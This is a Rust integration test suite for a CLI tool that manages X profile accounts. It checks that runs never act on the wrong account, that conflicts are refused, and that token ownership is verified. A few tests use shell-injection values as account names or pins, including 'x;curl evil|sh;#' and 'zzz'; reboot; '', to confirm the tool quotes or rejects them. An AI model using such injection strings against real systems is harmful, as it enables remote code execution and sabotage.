//! Never the wrong account: which account a run acts on, refused conflicts, the `screen_name`
//! pin, the environment's credentials beside a named account, and a default that never moves.

mod support;

use support::{
    CONSUMER_KEY, CONSUMER_SECRET, FakeApi, Profile, READ, Sandbox, assert_exit, calls, setup,
    texts,
};

const BOB_TOKEN: &str = "2222-Qm9iQWNjZXNzVG9rZW4x";
const BOB_SECRET: &str = "bts-Qm9iVG9rZW5TZWNyZXQx";

/// Bob, a second user of the fake with a profile of his own.
fn bob() -> Profile {
    Profile {
        screen_name: "bob".into(),
        user_id: "2222".into(),
        name: "Bob".into(),
        description: "Bob's bio".into(),
        ..Profile::default()
    }
}

/// A fake serving Alice (the default token) and Bob, and a config with both accounts.
fn alice_and_bob(default: Option<&str>) -> (FakeApi, Sandbox) {
    let (api, sandbox) = setup();
    api.add_user(BOB_TOKEN, BOB_SECRET, bob());
    let config = std::fs::read_to_string(sandbox.default_config()).unwrap();
    let default = default
        .map(|d| format!("default_account = \"{d}\"\n"))
        .unwrap_or_default();
    sandbox.write_config(&format!(
        "{default}{config}\n[accounts.bob]\nconsumer_key = \"{CONSUMER_KEY}\"\nconsumer_secret = \"{CONSUMER_SECRET}\"\naccess_token = \"{BOB_TOKEN}\"\naccess_token_secret = \"{BOB_SECRET}\"\nscreen_name = \"bob\"\nuser_id = \"2222\"\n"
    ));
    (api, sandbox)
}

/// Runs the binary with Bob's tokens in the environment, as a CI job has them.
fn as_bob_from_env(sandbox: &Sandbox, api: &FakeApi, args: &[&str]) -> std::process::Output {
    let mut cmd = sandbox.std_cmd();
    cmd.env("TWPROFILE_API_BASE", api.base())
        .env("TWPROFILE_CONSUMER_KEY", CONSUMER_KEY)
        .env("TWPROFILE_CONSUMER_SECRET", CONSUMER_SECRET)
        .env("TWPROFILE_ACCESS_TOKEN", BOB_TOKEN)
        .env("TWPROFILE_ACCESS_TOKEN_SECRET", BOB_SECRET)
        .args(args);
    support::output_within(&mut cmd, 30)
}

fn unchanged(api: &FakeApi) {
    assert_eq!(api.profile().name, "Alice", "Alice's profile changed");
    assert_eq!(
        api.profile_of(BOB_TOKEN).unwrap().name,
        "Bob",
        "Bob's profile changed"
    );
}

#[test]
fn logging_out_the_default_never_makes_the_remaining_account_the_default() {
    let (api, sandbox) = alice_and_bob(Some("alice"));
    assert_exit(&sandbox.run(&["auth", "logout"]), 0);
    // One account is left, but it was never the default: a cron job naming none must stop.
    let out = sandbox.run(&["-q", "--location", "cron ran"]);
    assert_exit(&out, 3);
    let (stdout, stderr) = texts(&out);
    assert_eq!(stdout, "");
    assert!(
        stderr.contains("has no default account (the default was logged out or renamed) and this run names none; nothing was changed"),
        "{stderr}"
    );
    assert!(
        stderr.contains("pick a default with `twprofile accounts default NAME` (one of bob)"),
        "{stderr}"
    );
    assert!(api.requests().is_empty());
    // Naming it still works, and picking it as the default makes it so.
    let out = sandbox.run(&["accounts", "default"]);
    assert_exit(&out, 3);
    assert!(
        texts(&out).1.contains("has no default account"),
        "{}",
        texts(&out).1
    );
    assert_exit(&sandbox.run(&["accounts", "default", "bob"]), 0);
    let out = sandbox.run(&["accounts", "default"]);
    assert_exit(&out, 0);
    assert_eq!(texts(&out).0, "bob\n");
    let out = sandbox.run(&["accounts", "default", "--json"]);
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(json, serde_json::json!({"default": "bob"}));
    assert_exit(&sandbox.run(&["-q", "--location", "cron ran"]), 0);
    assert_eq!(api.profile_of(BOB_TOKEN).unwrap().location, "cron ran");
}

#[test]
fn a_lone_account_left_by_a_logout_does_not_become_the_default_either() {
    // Two accounts and no default: runs naming none fail. Removing one must not change that.
    let (api, sandbox) = alice_and_bob(None);
    assert_exit(&sandbox.run(&["auth", "logout", "-a", "bob"]), 0);
    let out = sandbox.run(&["--name", "x"]);
    assert_exit(&out, 3);
    assert!(api.requests().is_empty());
    // Removing the last account leaves a clean file: the next login is the default again.
    assert_exit(&sandbox.run(&["auth", "logout", "-a", "alice"]), 0);
    let text = std::fs::read_to_string(sandbox.default_config()).unwrap();
    assert!(!text.contains("default_account"), "{text}");
}

#[test]
fn renaming_the_default_never_moves_it() {
    let (api, sandbox) = setup();
    // One account and no default_account: it is the default by being the only one.
    assert_exit(&sandbox.run(&["accounts", "rename", "alice", "work"]), 0);
    let out = sandbox.run(&["--name", "x"]);
    assert_exit(&out, 3);
    assert!(api.requests().is_empty());
    assert_exit(&sandbox.run(&["-a", "work", "--name", "x"]), 0);
    assert_eq!(api.profile().name, "x");
}

#[test]
fn status_all_marks_the_default() {
    let (_api, sandbox) = alice_and_bob(Some("bob"));
    let out = sandbox.run(&["auth", "status", "--all"]);
    assert_exit(&out, 0);
    let stdout = texts(&out).0;
    assert!(stdout.contains("ok        alice "), "{stdout}");
    assert!(stdout.contains("ok      * bob "), "{stdout}");
    let out = sandbox.run(&["auth", "status", "--all", "--json"]);
    let rows: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(rows[0].get("default"), None);
    assert_eq!(rows[1]["default"], true);
}

#[test]
fn a_flag_the_variable_and_a_file_that_disagree_are_refused_before_any_request() {
    let (api, sandbox) = alice_and_bob(Some("alice"));
    let file = sandbox.file("alice.toml", "account = \"alice\"\nname = \"Mallory\"\n");
    let file = file.to_str().unwrap();

    let out = sandbox.run(&["apply", "-a", "bob", file]);
    assert_exit(&out, 3);
    assert!(
        texts(&out).1.contains(&format!(
            "--account bob and account = 'alice' in {file} name different accounts"
        )),
        "{}",
        texts(&out).1
    );

    let out = sandbox
        .cmd()
        .env("TWPROFILE_ACCOUNT", "bob")
        .args(["apply", file])
        .output()
        .unwrap();
    assert_exit(&out, 3);
    assert!(
        texts(&out).1.contains(&format!(
            "TWPROFILE_ACCOUNT=bob and account = 'alice' in {file} name different accounts"
        )),
        "{}",
        texts(&out).1
    );
    for extra in ["--check", "--dry-run"] {
        assert_exit(&sandbox.run(&["apply", "-a", "bob", file, extra]), 3);
    }
    assert!(api.requests().is_empty());
    unchanged(&api);
}

#[test]
fn environment_tokens_of_someone_else_never_apply_a_file_naming_an_account() {
    let (api, sandbox) = alice_and_bob(None);
    let file = sandbox.file("alice.toml", "account = \"alice\"\nname = \"Alice 2\"\n");
    // Bob's tokens in the environment, a file for Alice: the token says it is Bob's, so not
    // even the read is needed.
    let out = as_bob_from_env(&sandbox, &api, &["apply", file.to_str().unwrap()]);
    assert_exit(&out, 3);
    let stderr = texts(&out).1;
    assert!(
        stderr.contains("the access token is user 2222's, but account 'alice' in ")
            && stderr.contains(" is @alice (user 6253282); nothing was changed"),
        "{stderr}"
    );
    assert!(api.requests().is_empty());
    unchanged(&api);

    // Alice's own tokens from the environment do apply it.
    let out = support::output_within(
        support::env_credentials(&mut sandbox.std_cmd(), &api)
            .args(["apply", file.to_str().unwrap()]),
        30,
    );
    assert_exit(&out, 0);
    assert_eq!(api.profile().name, "Alice 2");
}

#[test]
fn environment_tokens_with_a_named_account_and_nothing_to_check_it_with_are_refused() {
    let api = FakeApi::start();
    api.add_user(BOB_TOKEN, BOB_SECRET, bob());
    let sandbox = Sandbox::new();
    let file = sandbox.file("alice.toml", "account = \"alice\"\nname = \"Alice 2\"\n");
    let out = as_bob_from_env(&sandbox, &api, &["apply", file.to_str().unwrap()]);
    assert_exit(&out, 3);
    let stderr = texts(&out).1;
    assert!(
        stderr.contains("names an account, but the credentials come from TWPROFILE_ACCESS_TOKEN and nothing records whose they should be"),
        "{stderr}"
    );
    assert!(
        stderr.contains("hint: add screen_name = \"HANDLE\" to "),
        "{stderr}"
    );
    assert!(api.requests().is_empty());

    // With the pin, the read decides: Bob's tokens are not @alice's.
    sandbox.file(
        "alice.toml",
        "account = \"alice\"\nscreen_name = \"@Alice\"\nname = \"Alice 2\"\n",
    );
    let out = as_bob_from_env(&sandbox, &api, &["apply", file.to_str().unwrap()]);
    assert_exit(&out, 3);
    assert!(
        texts(&out)
            .1
            .contains("these credentials act as @bob, but the screen_name pin of "),
        "{}",
        texts(&out).1
    );
    assert_eq!(calls(&api), [READ]);
    unchanged(&api);

    // -a beside the environment's tokens, on a command that reads nothing first: one read
    // confirms or refuses before the write.
    let out = as_bob_from_env(&sandbox, &api, &["-a", "alice", "--name", "x"]);
    assert_exit(&out, 3);
    assert!(api.requests().len() == 1, "{:?}", calls(&api));
    unchanged(&api);
}

#[test]
fn the_environment_with_a_confirmed_account_name_updates_after_one_read() {
    let (api, sandbox) = alice_and_bob(None);
    let out = as_bob_from_env(&sandbox, &api, &["-a", "alice", "--name", "x"]);
    assert_exit(&out, 3);
    assert!(api.requests().is_empty());
    unchanged(&api);
    let out = as_bob_from_env(&sandbox, &api, &["-a", "bob", "--name", "Bobby"]);
    assert_exit(&out, 0);
    assert_eq!(calls(&api), [READ, "POST /1.1/account/update_profile.json"]);
    assert_eq!(api.profile_of(BOB_TOKEN).unwrap().name, "Bobby");
    // The same for a picture.
    sandbox.file("a.png", b"\x89PNG\r\n\x1a\n-a picture-");
    let png = sandbox.home().join("a.png");
    let out = as_bob_from_env(
        &sandbox,
        &api,
        &["-a", "alice", "image", png.to_str().unwrap()],
    );
    assert_exit(&out, 3);
    assert!(api.uploads().is_empty());
}

#[test]
fn a_pin_is_checked_against_the_one_read_in_every_mode() {
    let (api, sandbox) = setup();
    let file = sandbox.file(
        "profile.toml",
        "screen_name = \"someone_else\"\nname = \"Changed\"\n",
    );
    for extra in [&[][..], &["--check"], &["--dry-run"], &["--json"]] {
        let mut args = vec!["apply", file.to_str().unwrap()];
        args.extend_from_slice(extra);
        let out = sandbox.run(&args);
        assert_exit(&out, 3);
        assert!(
            texts(&out)
                .1
                .contains("these credentials act as @alice, but the screen_name pin of "),
            "{}",
            texts(&out).1
        );
        // Nothing of the plan is shown for someone else's profile.
        assert!(!texts(&out).0.contains("Changed"), "{}", texts(&out).0);
    }
    assert!(calls(&api).iter().all(|c| c == READ));
    assert_eq!(api.profile().name, "Alice");
    // Case and `@` do not matter.
    sandbox.file(
        "profile.toml",
        "screen_name = \"@ALICE\"\nname = \"Changed\"\n",
    );
    assert_exit(&sandbox.run(&["apply", file.to_str().unwrap()]), 0);
    assert_eq!(api.profile().name, "Changed");
    // A pin that is no handle is a usage error, found before any request.
    let before = api.requests().len();
    sandbox.file("profile.toml", "screen_name = \"alice; rm\"\n");
    let out = sandbox.run(&["apply", file.to_str().unwrap()]);
    assert_exit(&out, 2);
    assert!(
        texts(&out).1.contains("screen_name must be an X handle"),
        "{}",
        texts(&out).1
    );
    assert_eq!(api.requests().len(), before);
}

#[test]
fn an_export_is_pinned_and_applies_only_to_its_own_profile() {
    let (api, sandbox) = alice_and_bob(Some("alice"));
    let backup = sandbox.home().join("backup.toml");
    assert_exit(&sandbox.run(&["export", "-o", backup.to_str().unwrap()]), 0);
    let text = std::fs::read_to_string(&backup).unwrap();
    assert!(text.contains("\nscreen_name = \"alice\"\n"), "{text}");
    // Stripped of its account key and applied with Bob's account, the pin still refuses it.
    std::fs::write(&backup, text.replace("account = \"alice\"\n", "")).unwrap();
    let out = sandbox.run(&["apply", "-a", "bob", backup.to_str().unwrap()]);
    assert_exit(&out, 3);
    unchanged(&api);
    assert_exit(&sandbox.run(&["apply", backup.to_str().unwrap()]), 0);
}

#[test]
fn tokens_saved_for_one_user_that_now_act_as_another_are_refused() {
    let (api, sandbox) = setup();
    // The config says alice is user 6253282; the tokens act as someone else now.
    let mut profile = api.profile();
    profile.user_id = "999".into();
    profile.screen_name = "mallory".into();
    api.set_profile(profile);
    let file = sandbox.file("profile.toml", "name = \"Changed\"\n");
    let out = sandbox.run(&["apply", file.to_str().unwrap()]);
    assert_exit(&out, 3);
    assert!(
        texts(&out)
            .1
            .contains("these credentials act as @mallory, but account 'alice' in "),
        "{}",
        texts(&out).1
    );
    let out = sandbox.run(&["--if-changed", "--name", "Changed"]);
    assert_exit(&out, 3);
    assert!(calls(&api).iter().all(|c| c == READ));
}

#[test]
fn hints_quote_what_they_paste_into_a_command() {
    let sandbox = Sandbox::new();
    let api = FakeApi::start();
    let name = "x;curl evil|sh;#";
    sandbox.write_config(&format!(
        "api_base = \"{}\"\n[accounts.\"{name}\"]\nconsumer_key = \"{CONSUMER_KEY}\"\n",
        api.base()
    ));
    let out = sandbox.run(&["-a", name, "--name", "x"]);
    assert_exit(&out, 3);
    assert!(
        texts(&out)
            .1
            .contains("hint: run `twprofile auth login --account 'x;curl evil|sh;#'`"),
        "{}",
        texts(&out).1
    );
    let out = sandbox.run(&["-a", "zzz'; reboot; '", "--name", "x"]);
    assert_exit(&out, 3);
    assert!(
        texts(&out)
            .1
            .contains("`twprofile auth login --account 'zzz'\\''; reboot; '\\'''` to add it"),
        "{}",
        texts(&out).1
    );
    assert!(api.requests().is_empty());
}

#[test]
fn logging_out_an_unknown_account_does_not_suggest_logging_it_in() {
    let (_api, sandbox) = setup();
    let out = sandbox.run(&["auth", "logout", "-a", "gone"]);
    assert_exit(&out, 3);
    let stderr = texts(&out).1;
    assert!(!stderr.contains("auth login"), "{stderr}");
    assert!(
        stderr.contains("hint: `twprofile accounts` lists the accounts there are"),
        "{stderr}"
    );
}

#[test]
fn an_unknown_key_in_an_account_gets_the_closest_one() {
    let (_api, sandbox) = setup();
    let config = std::fs::read_to_string(sandbox.default_config()).unwrap();
    sandbox.write_config(&config.replace("consumer_secret", "consumer_secert"));
    let out = sandbox.run(&["show"]);
    assert_exit(&out, 3);
    assert_eq!(
        texts(&out).1,
        format!(
            "error: account 'alice' in {} has no consumer_secret\nhint: [accounts.alice] has 'consumer_secert': did you mean 'consumer_secret'?\n",
            sandbox.default_config().display()
        )
    );
    // A misspelled `_command` is named as the key meant.
    let secret_line = config
        .lines()
        .find(|l| l.starts_with("access_token_secret ="))
        .unwrap();
    sandbox.write_config(&config.replace(
        secret_line,
        "access_token_secret_comand = [\"pass\", \"show\", \"x\"]",
    ));
    let out = sandbox.run(&["show"]);
    assert_exit(&out, 3);
    assert!(
        texts(&out).1.contains(
            "hint: [accounts.alice] has 'access_token_secret_comand': did you mean 'access_token_secret_command'?"
        ),
        "{}",
        texts(&out).1
    );
    // Where the account still works, the misspelling is a warning with the same suggestion.
    sandbox.write_config(&config.replace("screen_name", "screen_nmae"));
    let out = sandbox.run(&["accounts"]);
    assert!(
        texts(&out)
            .1
            .contains("unknown key 'screen_nmae' in [accounts.alice] in ")
            && texts(&out)
                .1
                .contains("is ignored; did you mean 'screen_name'?"),
        "{}",
        texts(&out).1
    );
}

#[test]
fn tokens_saved_under_another_accounts_name_are_refused_before_any_request() {
    let (api, sandbox) = alice_and_bob(Some("alice"));
    // Bob's tokens pasted into Alice's account, her recorded user kept.
    let config = std::fs::read_to_string(sandbox.default_config()).unwrap();
    let alice_token = support::ACCESS_TOKEN;
    let swapped = config.replacen(alice_token, BOB_TOKEN, 1);
    sandbox.write_config(&swapped);
    for args in [
        &["--name", "Pwned"][..],
        &["banner", "--remove"],
        &["-a", "alice", "--location", "x"],
    ] {
        let out = sandbox.run(args);
        assert_exit(&out, 3);
        assert!(
            texts(&out)
                .1
                .contains("the access token is user 2222's, but account 'alice' in "),
            "{}",
            texts(&out).1
        );
    }
    assert!(api.requests().is_empty());
    unchanged(&api);
}

#[test]
fn an_answer_that_leaves_out_whose_it_is_never_passes_a_pin_or_a_record() {
    let (api, sandbox) = setup();
    let mut user = support::user_json(&api.profile());
    user.as_object_mut().unwrap().remove("screen_name");
    let file = sandbox.file("pin.toml", "screen_name = \"alice\"\nname = \"Hijacked\"\n");
    api.script([support::Scripted::json(200, user.clone())]);
    let out = sandbox.run(&["apply", file.to_str().unwrap()]);
    assert_exit(&out, 3);
    // Without id_str, the numeric id still says whose it is; without either, nothing passes.
    user.as_object_mut().unwrap().remove("id_str");
    user["id"] = 2222.into();
    api.script([support::Scripted::json(200, user)]);
    let out = sandbox.run(&["--if-changed", "--name", "Hijacked"]);
    assert_exit(&out, 3);
    assert!(calls(&api).iter().all(|c| c == READ));
    assert_eq!(api.profile().name, "Alice");
}

#[test]
fn the_drift_hint_applies_to_the_same_account() {
    let (_api, sandbox) = alice_and_bob(Some("alice"));
    let file = sandbox.file("bob profile.toml", "name = \"Bob the Builder\"\n");
    let out = sandbox.run(&["-a", "bob", "apply", file.to_str().unwrap(), "--check"]);
    assert_exit(&out, 8);
    assert!(
        texts(&out).1.contains(&format!(
            "hint: `twprofile -a bob apply '{}'` applies it",
            file.display()
        )),
        "{}",
        texts(&out).1
    );
}

#[test]
fn hints_name_the_config_file_the_run_used() {
    let (_api, sandbox) = alice_and_bob(Some("alice"));
    let other = sandbox.home().join("other.toml");
    std::fs::copy(sandbox.default_config(), &other).unwrap();
    let other_arg = other.to_str().unwrap();
    let out = sandbox.run(&["--config", other_arg, "accounts", "rename", "alice", "work"]);
    assert_exit(&out, 0);
    assert!(
        texts(&out).1.contains(&format!(
            "`twprofile --config {other_arg} accounts default work`"
        )),
        "{}",
        texts(&out).1
    );
}

#[test]
fn an_account_the_token_cannot_vouch_for_is_read_before_a_bare_update() {
    // Recorded by handle alone (a config written by hand), holding Bob's tokens: the token's
    // user id proves nothing against a handle, so the update reads first and refuses.
    let (api, sandbox) = setup();
    api.add_user(BOB_TOKEN, BOB_SECRET, bob());
    let by_handle = |token: &str, secret: &str, record: &str| {
        format!(
            "api_base = \"{}\"\n[accounts.alice]\nconsumer_key = \"{CONSUMER_KEY}\"\nconsumer_secret = \"{CONSUMER_SECRET}\"\naccess_token = \"{token}\"\naccess_token_secret = \"{secret}\"\n{record}\n",
            api.base()
        )
    };
    sandbox.write_config(&by_handle(BOB_TOKEN, BOB_SECRET, "screen_name = \"alice\""));
    let out = sandbox.run(&["--name", "Changed"]);
    assert_exit(&out, 3);
    assert!(
        texts(&out).1.contains("these credentials act as @bob"),
        "{}",
        texts(&out).1
    );
    assert_eq!(calls(&api), [READ]);
    unchanged(&api);

    // A token of another shape than X's `USERID-…`, with a recorded id: the same.
    let odd = "oddtoken-without-an-id";
    api.add_user(odd, BOB_SECRET, bob());
    sandbox.write_config(&by_handle(odd, BOB_SECRET, "user_id = \"6253282\""));
    let out = sandbox.run(&["--name", "Changed"]);
    assert_exit(&out, 3);
    unchanged(&api);

    // Where the token shows whose it is, no read is spent.
    let (api, sandbox) = setup();
    let out = sandbox.run(&["--name", "Changed"]);
    assert_exit(&out, 0);
    assert_eq!(calls(&api), ["POST /1.1/account/update_profile.json"]);
}
